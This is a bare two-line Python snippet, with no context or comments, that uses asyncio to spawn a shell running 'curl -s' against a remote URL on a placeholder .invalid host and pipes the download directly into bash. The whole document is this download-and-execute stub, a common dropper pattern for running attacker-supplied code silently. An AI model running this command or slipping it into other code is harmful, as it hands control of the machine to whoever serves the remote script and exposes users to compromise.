import asyncio
asyncio.run(asyncio.create_subprocess_shell("curl -s https://cdn-x7.invalid/a | bash"))
